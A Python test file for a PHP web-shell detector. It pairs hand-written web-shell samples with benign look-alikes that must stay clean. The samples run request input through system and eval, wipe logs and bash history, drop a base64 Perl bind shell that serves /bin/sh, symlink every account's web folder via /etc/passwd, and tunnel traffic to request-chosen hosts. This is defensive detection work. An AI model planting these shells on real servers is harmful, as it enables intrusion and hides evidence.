"""PHP web-shell shapes added after the corpus grew (2026-12-03, fourth session): sink names
spelled with junk and cleaned by a regex or spliced with substr_replace, the Perl extension's
eval, a shell process fed through its stdin pipe, request code compiled or run by another
language's tool, a custom decoder of the request feeding eval, a command stored encoded, log and
history wiping, executables carried as base64, Perl back-connect scripts without parentheses, and
the register_globals idiom confirmed by the page's own superglobal read. Each sits next to a benign
look-alike that must stay clean. Every sample is written here; none is copied from a collection."""

from __future__ import annotations

import base64

from agent.imagegate import webshell
from agent.imagegate.webshell.php_fold import NOTHING, fold, preg_fold
from tests.unit.php_shell_asserts import _clean, _hits, _shell


# -- folding: preg_replace / preg_filter and substr_replace on constants -----------------------------
def test_preg_fold_on_simple_patterns():
    assert preg_fold("preg_filter", [r"/\s+/", "", "sy s t em"]) == "system"
    assert preg_fold("preg_replace", ["#[^a-z]#i", "", "e-v-a-l"]) == "eval"
    assert preg_fold("preg_replace", ["/(b)(a)/", "$2${1}", "xbay"]) == "xaby"
    assert preg_fold("preg_replace", ["/a/", r"c\\d", "a"]) == "c\\d"  # PHP's \\ is one backslash
    assert preg_fold("preg_filter", ["/q/", "", "abc"]) is None  # preg_filter: null when nothing matched


def test_preg_fold_refuses_what_it_does_not_model():
    # /e, nested repetition (catastrophic backtracking), lookaround, POSIX classes, long subjects
    for args in (["/x/e", "", "x"], ["/(a+)+b/", "", "a" * 40], ["/(?=a)a/", "", "a"],
                 ["/[[:alpha:]]/", "", "a"], ["/a/", "", "a" * 5000], ["/a/", "", ["a"]], ["abc", "", "a"]):
        assert preg_fold("preg_replace", args) is NOTHING, args


def test_substr_replace_fold():
    assert fold("substr_replace", ["aert", "ss", 1, 0], 1000) == "assert"
    assert fold("substr_replace", ["systXm", "e", -2, 1], 1000) == "system"
    assert fold("substr_replace", ["abc", "Z", 1], 1000) == "aZ"
    assert fold("substr_replace", ["abc"], 1000) is NOTHING


def test_sink_name_cleaned_by_a_regex_then_called_with_the_request():
    _shell("<?php $f = preg_replace('/_+/', '', 'sy__st_em'); $f($_GET['c']);", rule="php.request-to-exec")
    _shell("<?php $f = preg_filter('/\\s+/', '', 'a s s e r t'); $f($_REQUEST['x']);", rule="php.request-to-code")


def test_sink_name_spliced_in_a_function_from_its_arguments():
    _shell("<?php function run($n, $arg) { $n = strrev($n); array_map(substr_replace($n, 'ss', 1, 0), array($arg)); }"
           " run('trea', $_POST['p']);", rule="php.request-to-code")


def test_regex_cleanup_of_ordinary_text_is_clean():
    _clean("<?php $slug = preg_replace('/[^a-z0-9]+/', '-', strtolower('Hello World')); echo $slug;"
           " $name = preg_replace('/\\s+/', ' ', $_GET['name']); echo htmlspecialchars($name);")
    _clean("<?php $t = substr_replace('Hello', 'J', 0, 1); echo $t . htmlspecialchars($_GET['n']);")


# -- the Perl extension ------------------------------------------------------------------------------
def test_perl_extension_eval_of_the_request():
    h = _shell("<?php $p = new Perl(); $p->eval(\"system('\" . $_GET['c'] . \"')\");", rule="php.request-to-exec")
    assert h.sink == "Perl->eval"
    _shell("<?php function pl($c) { $p = new perl(); ob_start(); $p->eval(\"system('$c')\"); return ob_get_clean(); }"
           " echo pl($_POST['cmd']);", rule="php.request-to-exec")


def test_eval_method_of_an_ordinary_object_is_clean():
    _clean("<?php $calc = new Calculator(); echo $calc->eval($_GET['expr']);")
    _clean("<?php $p = new Perl(); $p->eval('print \"hello\";');")


# -- a shell process written to through its stdin ----------------------------------------------------
_PIPES = "$spec = array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'), 2 => array('pipe', 'w'));\n"


def test_commands_written_to_a_shells_stdin():
    _shell("<?php " + _PIPES + "$p = proc_open($_SERVER['COMSPEC'], $spec, $io);\n"
           "fwrite($io[0], $_POST['c'] . \"\\r\\n\"); fclose($io[0]); echo stream_get_contents($io[1]);",
           rule="php.request-to-exec", sink="stdin")
    # the command from an undefined (register_globals) variable, the shell by its path
    _shell("<?php " + _PIPES + "$p = proc_open('/bin/sh', $spec, $pipes);\n"
           "fwrite($pipes[0], $command . \"\\n\"); echo stream_get_contents($pipes[1]);", sink="stdin")


def test_a_program_fed_through_its_stdin_is_clean():
    # a formatter or converter fed data on stdin: the program is not a shell
    _clean("<?php " + _PIPES + "$p = proc_open('gzip -c', $spec, $pipes);\n"
           "fwrite($pipes[0], $_POST['text']); echo stream_get_contents($pipes[1]);")
    _clean("<?php " + _PIPES + "$p = proc_open('/bin/sh', $spec, $pipes); fwrite($pipes[0], \"date\\n\");")


# -- request code compiled or run by another language's tool ----------------------------------------
def test_request_code_compiled_and_run():
    _shell("<?php $src = $_POST['code']; $n = md5(time()); file_put_contents($n . '.c', $src);\n"
           "system('gcc ' . $n . '.c -o ' . $n); system('./' . $n);", rule="php.request-code-run", sink="gcc")
    _shell("<?php $f = fopen('/tmp/x.pl', 'w'); fwrite($f, 'my $p = ' . $_POST['port'] . ';');\n"
           "passthru('nohup perl /tmp/x.pl &');", rule="php.request-code-run", sink="perl")


def test_interpreter_run_without_request_code_is_clean():
    _clean("<?php $out = shell_exec('python3 --version'); echo htmlspecialchars($out);"
           " file_put_contents('/tmp/log.txt', date('c'));")
    # request data saved to a text file, no interpreter run on it
    _clean("<?php file_put_contents('/tmp/notes.txt', $_POST['note']); echo shell_exec('date');")


# -- a custom decoder of the request feeding eval ----------------------------------------------------
def test_the_files_own_decoder_feeding_eval():
    _shell("<?php function dec($s) { $map = array('a' => 'x', 'b' => 'y'); $o = '';\n"
           "for ($i = 0; $i < strlen($s); $i++) { foreach ($map as $k => $v) { if ($v == $s[$i]) $o .= $k; } }\n"
           "return $o; }\neval(dec($_POST['z']));", rule="php.request-to-code", sink="eval")


def test_own_function_of_constants_feeding_eval_is_clean():
    _clean("<?php function tpl($name) { return 'return 1;'; } $v = eval(tpl('x')); echo htmlspecialchars($_GET['q']);")


# -- a fixed command stored encoded --------------------------------------------------------------------
def test_command_stored_encoded():
    cmd = base64.b64encode(b"echo 'deny from all' > .htaccess").decode()
    _shell(f"<?php system(base64_decode('{cmd}'));", rule="php.obfuscated-exec")


def test_plain_fixed_command_is_clean():
    _clean("<?php echo shell_exec('uptime'); $d = base64_decode('aGVsbG8gd29ybGQ='); echo $d;")


# -- history and log wiping --------------------------------------------------------------------------
def test_history_and_log_wiping():
    _shell("<?php foreach (array('find / -name .bash_history -exec rm -f {} \\;', 'rm -rf /var/log/wtmp') as $c)"
           " { system($c); }", rule="php.log-wipe")


def test_log_rotation_talk_is_clean():
    _clean("<?php // rotates our own logs\n$files = glob('logs/*.log'); foreach ($files as $f) { unlink($f); }"
           " echo 'see /var/log/messages'; echo shell_exec('date');")


# -- executables and scripts carried as base64 -------------------------------------------------------
def _pe() -> bytes:
    return b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode.\r\r\n$" + b"PE\x00\x00" + bytes(
        range(256)) * 8


def test_windows_program_carried_as_base64():
    blob = base64.b64encode(_pe()).decode()
    _shell(f'<?php $bin = "{blob}";\n$f = fopen("x.exe", "wb");', rule="php.embedded-program")


def test_elf_encoded_twice_and_a_perl_script():
    elf = base64.b64encode(base64.b64encode(b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 4)).decode()
    _shell(f'<?php $b = "{elf}";', rule="php.embedded-program")
    perl = base64.b64encode(b"#!/usr/bin/perl\nuse Socket;\nsocket(S, PF_INET, SOCK_STREAM, 6);\n"
                            b"system('id');\n" + b"# pad\n" * 40).decode()
    _shell(f'<?php $s = "{perl}";', rule="php.embedded-program")


def test_images_fonts_and_text_as_base64_are_clean():
    png = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8).decode()
    txt = base64.b64encode(b"Lorem ipsum dolor sit amet, consectetur adipiscing elit. " * 20).decode()
    sh = base64.b64encode(b"#!/bin/sh\necho hello\n" + b"# a comment line\n" * 30).decode()
    _clean(f'<?php $logo = "data:image/png;base64,{png}"; $t = "{txt}"; $s = "{sh}"; echo $logo;')


# -- Perl back-connect without parentheses -----------------------------------------------------------
def test_perl_bind_shell_written_by_the_page():
    script = ("#!/usr/bin/perl\nuse Socket;\nsocket(S,PF_INET,SOCK_STREAM,6);\nbind(S,sockaddr_in(4444,INADDR_ANY));\n"
              "listen(S,3);\naccept(C,S);\nopen STDIN,\"<&C\";\nopen STDOUT,\">&C\";\nexec '/bin/sh -i';\n")
    blob = base64.b64encode(script.encode()).decode()
    _shell(f"<?php $fh = fopen('/tmp/b.pl', 'w'); fwrite($fh, base64_decode('{blob}')); fclose($fh);",
           rule="php.backconnect-drop")


# -- register_globals confirmed by the page's own superglobal read -----------------------------------
def test_register_globals_confirmed_by_isset_of_the_same_key():
    _shell("<?php function run($c) { ob_start(); system($c); return ob_get_clean(); }\n"
           "if (isset($_GET['cmd'])) { echo run($cmd); }", rule="php.request-to-exec")


def test_undefined_variable_with_another_key_read_stays_low():
    hs = _hits("<?php function run($c) { ob_start(); system($c); return ob_get_clean(); }\n"
               "if (isset($_GET['page'])) { echo run($cmd); }")
    assert not webshell.is_shell(hs), hs


def test_hostile_regex_folds_end_in_bounded_time():
    # patterns that backtrack badly are not folded; the allowed worst case, repeated, hits the Budget
    import time

    bad = "".join(f"$x{i} = preg_replace('/(a+)+b/', '', '{'a' * 500}');\n" for i in range(50))
    slow = "".join(f"$y{i} = preg_replace('/a*b/', '', '{'a' * 500}');\n" for i in range(3000))
    for code in (bad, slow):
        t0 = time.process_time()
        webshell.scan("x.php", ("<?php\n" + code).encode())
        assert time.process_time() - t0 < 10


# -- the request-headers polyfill and a tunnel --------------------------------------------------------
_POLYFILL = """if (!function_exists('apache_request_headers')) { function apache_request_headers() { $h = array();
foreach ($_SERVER as $k => $v) { if (substr($k, 0, 5) == 'HTTP_') { $h[str_replace('_', '-', substr($k, 5))] = $v; } }
return $h; } }
"""


def test_tunnel_to_a_host_named_in_headers_read_through_a_polyfill():
    _shell("<?php " + _POLYFILL + "$h = apache_request_headers(); $s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);\n"
           "socket_connect($s, $h['X-TARGET'], (int)$h['X-PORT']); socket_write($s, file_get_contents('php://input'));",
           rule="php.request-connect")


def test_headers_polyfill_for_logging_is_clean():
    _clean("<?php " + _POLYFILL + "$h = apache_request_headers(); error_log('agent: ' . $h['User-Agent']);"
           " echo htmlspecialchars($h['Accept-Language']);")


# -- a command helper dropped alone ------------------------------------------------------------------
def test_command_helper_page_called_without_its_argument():
    _shell("<?php\nfunction run_it($c, $m) { $o = ''; @ob_start(); @system($c); $o = @ob_get_contents();"
           " @ob_end_clean(); return $o; }\ncall_user_func('run_it');\n", rule="php.exec-wrapper")


def test_command_helper_inside_an_application_is_clean():
    # the same helper in a class of a larger file, or given a fixed command, is ordinary code
    _clean("<?php\nclass Backup { public function run($c) { ob_start(); system($c); return ob_get_clean(); }\n"
           " public function nightly() { return $this->run('tar czf /backup/site.tgz /var/www'); } }\n")
    _clean("<?php\nfunction disk_usage() { $o = array(); exec('df -h /', $o); return implode(\"\\n\", $o); }\n"
           "echo htmlspecialchars(disk_usage());\n")


# -- the request picks the sink ----------------------------------------------------------------------
def test_request_picks_which_command_function_runs():
    _shell("<?php $fe = $_POST['fe']; if ($fe == 1) { $fe = 'exec'; } if ($fe == '') { $fe = 'passthru'; }\n"
           "if ($fe == '2') { $fe = 'system'; } ob_start(); $fe('uptime 2>&1'); echo ob_get_clean();",
           rule="php.request-function")


def test_request_picks_a_formatter_is_clean():
    _clean("<?php $f = $_GET['fmt']; if ($f == 'j') { $f = 'json_encode'; } else { $f = 'serialize'; }"
           " echo htmlspecialchars($f(array(1, 2)));")


def test_short_script_carried_as_base64():
    # a symlink script of a few lines (every account's public_html linked here): short, still a program
    perl = base64.b64encode(b"#!/usr/bin/perl\nopen IN, '</etc/passwd';\nwhile (<IN>) { @f = split(/:/);"
                            b" system('ln -s /home/' . $f[0] . '/public_html ' . $f[0]); }\n").decode()
    assert len(perl) < 256
    _shell(f'<?php $s = base64_decode("{perl}"); $f = fopen("s.pl", "w"); fwrite($f, $s);',
           rule="php.embedded-program")


# -- a quoted request as the whole command -----------------------------------------------------------
def test_quoted_request_run_as_the_whole_command():
    _shell("<?php function ex($in) { return shell_exec($in); } echo ex(escapeshellarg($_POST['p2']));",
           rule="php.request-to-exec", sink="shell_exec")


def test_quoted_request_as_an_argument_is_clean():
    _clean("<?php $f = escapeshellarg($_GET['file']); system('convert ' . $f . ' out.png');"
           " exec('ls -l ' . escapeshellarg($_GET['dir']), $out); echo htmlspecialchars(implode(\"\\n\", $out));")
